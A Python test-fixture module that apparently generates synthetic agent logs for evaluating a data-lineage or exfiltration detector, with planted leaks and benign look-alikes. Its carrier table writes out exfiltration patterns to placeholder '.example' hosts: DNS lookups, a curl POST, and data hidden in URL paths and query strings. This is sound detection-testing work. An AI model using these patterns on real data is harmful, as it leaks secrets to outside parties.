"""Sessions of made-up agent work, each with values that travel and look-alikes that do not."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from random import Random
from typing import Any, Final, NamedTuple

from afteraction.audit.evaluation import lineage_suite_pages as pages
from afteraction.audit.evaluation.lineage_suite_changes import CHANGES, Change
from afteraction.audit.evaluation.lineage_suite_lures import LURES, Lure
from afteraction.audit.evaluation.lineage_suite_values import name_like, near, value
from afteraction.records.action import Action
from afteraction.records.message import Message, Role
from afteraction.records.place import Place

_PLACE: Final = Place(file="suite", line=1, offset=0, digest="0" * 64)
_READS: Final = (
    "read_file",
    "fetch_page",
    "get_record",
    "list_inbox",
    "query_table",
    "show_log",
    "open_note",
)
#: Of each session: planted values, look-alikes and ordinary calls.
_PLANTED, _LURES, _ORDINARY = 2, 3, (1, 4)
Call = tuple[str, dict[str, Any]]


class Planted(NamedTuple):
    """A value that a result gave (`source`) and later calls (`sent`) carried; each a `seq` of the session."""

    change: str
    session_id: str
    source: int
    sent: tuple[int, ...]


class Benign(NamedTuple):
    """A call that carries nothing of what was read; `lure` names what it resembles."""

    lure: str
    session_id: str
    sent: int


@dataclass
class Session:
    """One session as the log of an agent, and the truth about it."""

    name: str
    actions: list[Action] = field(default_factory=list)
    messages: list[Message] = field(default_factory=list)
    planted: list[Planted] = field(default_factory=list)
    benign: list[Benign] = field(default_factory=list)
    _position: int = 0

    def say(self, role: Role, text: str) -> None:
        """One message at the next position."""
        self.messages.append(Message(role=role, text=text, position=self._position, **self._common()))
        self._position += 1

    def call(self, tool: str, args: dict[str, Any], result: str) -> int:
        """One call and its result at the next two positions; returns its `seq`."""
        at: dict[str, Any] = {"position": self._position, "result_position": self._position + 1}
        number, self._position = len(self.actions), self._position + 2
        self.actions.append(
            Action(
                tool=tool,
                args=json.dumps(args, ensure_ascii=False),
                result=result,
                call=str(number),
                status="ok",
                **at,
                **self._common(),
            )
        )
        return number

    def _common(self) -> dict[str, Any]:
        return {"tenant": "suite", "source_system": "suite", "session_id": self.name, "place": _PLACE}


def sessions(seed: int, count: int) -> Iterator[Session]:
    """So many sessions; the same for the same seed and count, every change and look-alike equally often."""
    rng = Random(seed)  # noqa: S311 -- repeatable, not secret
    changes, lures = _cycle(rng, list(CHANGES)), _cycle(rng, list(LURES))
    for number in range(count):
        yield _session(
            rng,
            f"suite-{number}",
            [next(changes) for _ in range(_PLANTED)],
            [next(lures) for _ in range(_LURES)],
        )


def _cycle(rng: Random, names: list[str]) -> Iterator[str]:
    while True:
        rng.shuffle(names)
        yield from names


def _session(rng: Random, name: str, changes: Sequence[str], lures: Sequence[str]) -> Session:
    made = Session(name)
    baits = [(lure, LURES[lure](rng)) for lure in lures]
    if rng.random() < 0.4:
        made.say("system", f"You help with {pages.words(rng, 2)}. {pages.sentence(rng)}")
    asked = " ".join(f"It concerns {bait.asked}." for _, bait in baits if bait.asked)
    made.say("user", f"Please look after the {pages.words(rng, 2)}. {pages.sentence(rng)} {asked}")
    acts: list[tuple[Callable[..., Callable[[], None]], tuple[Any, ...]]] = [
        *((_plant, (change,)) for change in changes),
        *((_lure, bait) for bait in baits),
        *((_ordinary, ()) for _ in range(rng.randint(*_ORDINARY))),
    ]
    rng.shuffle(acts)
    sends = [read(rng, made, *given) for read, given in acts]
    if rng.random() < 0.5:
        made.say("assistant", pages.sentence(rng))
    rng.shuffle(sends)
    for send in sends:
        send()
    return made


def _read(rng: Random, made: Session, values: Sequence[str]) -> int:
    args = {
        rng.choice(("path", "name", "query")): f"{name_like(rng)}/{name_like(rng)}",
        "limit": rng.randint(5, 50),
    }
    number = made.call(rng.choice(_READS), args, pages.page(rng, values))
    made.benign.append(Benign("ordinary reading", made.name, number))
    return number


def _plant(rng: Random, made: Session, name: str) -> Callable[[], None]:
    """Read a value now; the returned call sends it on."""
    change = CHANGES[name]
    chosen = value(rng, change.fits)
    others = [near(rng, chosen)] if rng.random() < 0.3 else []
    source = _read(rng, made, [change.stands(chosen), *others])

    def send() -> None:
        calls = _calls(rng, change, change.texts(rng, chosen))
        sent = tuple(made.call(tool, args, _answer(rng, args)) for tool, args in calls)
        made.planted.append(Planted(name, made.name, source, sent))

    return send


def _lure(rng: Random, made: Session, name: str, bait: Lure) -> Callable[[], None]:
    _read(rng, made, [bait.read])

    def send() -> None:
        tool, args = _carried(rng, bait.sent)
        made.benign.append(Benign(name, made.name, made.call(tool, args, _answer(rng, args))))

    return send


def _ordinary(rng: Random, made: Session) -> Callable[[], None]:
    _read(rng, made, [])

    def send() -> None:
        tool, args = _carried(rng, pages.sentence(rng))
        made.benign.append(Benign("ordinary call", made.name, made.call(tool, args, _answer(rng, args))))

    return send


def _answer(rng: Random, args: dict[str, Any]) -> str:
    return rng.choice(("ok", "done", f'{{"id": {rng.randint(100, 99_999)}}}', f"received {json.dumps(args)}"))


def _calls(rng: Random, change: Change, texts: Sequence[str]) -> list[Call]:
    if change.spread == "arguments":
        parts = {f"field_{number}": text for number, text in enumerate(texts)}
        return [("create_entry", rng.choice((parts, {"parts": list(texts), "title": pages.words(rng, 2)})))]
    if change.spread == "calls":
        carry = _CARRIERS[change.carrier] if change.carrier != "any" else rng.choice(_CHUNKED)
        host = f"{name_like(rng)}.example"
        return [carry(text, host) for text in texts]
    if change.carrier != "any":
        return [_CARRIERS[change.carrier](texts[0], f"{name_like(rng)}.example")]
    return [_carried(rng, texts[0])]


def _carried(rng: Random, text: str) -> Call:
    """One call that carries a text, bare or amid others."""
    if rng.random() < 0.5:
        text = rng.choice((f"{pages.sentence(rng)} {text}", f"ref:{text};", f"{text}\n{pages.sentence(rng)}"))
    host = f"{name_like(rng)}.example"
    return rng.choice(
        (
            (
                "send_email",
                {"to": [f"{name_like(rng)}@{host}"], "subject": pages.words(rng, 2), "body": text},
            ),
            ("post_message", {"channel": name_like(rng), "text": text, "silent": False}),
            (
                "http_request",
                {"method": "POST", "url": f"https://{host}/api", "body": json.dumps({"note": text})},
            ),
            ("write_file", {"path": f"/tmp/{name_like(rng)}.txt", "content": text}),  # noqa: S108
            (
                "update_record",
                {"record": {"kind": "note", "fields": [{"label": name_like(rng), "value": text}]}},
            ),
        )
    )


#: Calls that carry text to a host in one way, by name.
_CARRIERS: Final[dict[str, Callable[[str, str], Call]]] = {
    "lookup": lambda text, host: ("run_command", {"command": f"nslookup {text}.{host}"}),
    "path": lambda text, host: ("http_request", {"url": f"https://{host}/{text}/pixel.png", "method": "GET"}),
    "query": lambda text, host: ("http_request", {"url": f"https://{host}/a?d={text}&v=2", "method": "GET"}),
    "shell": lambda text, host: ("run_command", {"command": f"curl -s -d '{text}' https://{host}/in"}),
    "plain": lambda text, host: ("post_message", {"channel": host, "text": text}),
}
_CHUNKED: Final = (_CARRIERS["plain"], _CARRIERS["shell"])
